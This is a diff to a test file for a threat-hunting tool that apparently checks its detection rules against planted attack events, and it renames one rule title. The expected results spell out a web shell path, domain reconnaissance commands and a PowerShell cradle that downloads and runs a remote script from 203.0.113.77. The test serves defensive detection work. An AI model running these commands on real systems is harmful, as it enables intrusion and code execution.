@@ -130,7 +130,7 @@ test('without --rules, the hunt uses Spoor\'s own rules and finds each planted s
   const found = jsonl(r.stdout).map((d) => `${d.rule.title} | ${d.event.Event.EventData.CommandLine ?? d.event.Event.EventData.TargetFilename}`);
   // The planted steps (src/evidence/evtx/sample-events.ts): web shell, three commands run by it, LSASS dump, staging.
   assert.deepEqual(found, [
-    'ASPX File Written Into An Exchange Web Folder By The IIS Worker | C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx',
+    'Script Page Written Into An Exchange Or IIS Web Folder | C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx',
     'Command Shell Started By The IIS Worker Process | cmd /c whoami /all',
     'Command Shell Started By The IIS Worker Process | cmd /c net group "Domain Admins" /domain',
     'Command Shell Started By The IIS Worker Process | powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.77/a.ps1\')"',
